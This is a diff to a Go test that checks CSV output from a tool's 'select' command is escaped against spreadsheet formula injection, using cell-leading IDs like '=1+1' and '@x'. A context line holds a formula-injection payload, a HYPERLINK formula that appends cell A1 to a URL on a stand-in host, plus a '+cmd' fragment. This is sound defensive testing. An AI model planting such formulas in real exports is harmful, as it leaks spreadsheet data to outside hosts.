@@ -342,4 +342,13 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 	if code != 0 || !strings.Contains(raw, `"=HYPERLINK(""http://x/?""&A1)"`) && !strings.Contains(raw, ",+cmd,") {
 		t.Errorf("--raw-ids: %s", raw)
 	}
+	// select writes its ids the same way.
+	emb := writeFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
+	code, sel, stderr := runQVS(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv")
+	if code != 0 || !strings.Contains(sel, ",'=1+1,") || !strings.Contains(sel, ",-5,") || !strings.Contains(sel, ",'@x,") {
+		t.Errorf("select --format csv: exit %d %s\n%s", code, stderr, sel)
+	}
+	if _, sel, _ = runQVS(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv", "--raw-ids"); !strings.Contains(sel, ",=1+1,") {
+		t.Errorf("select --raw-ids:\n%s", sel)
+	}
 }
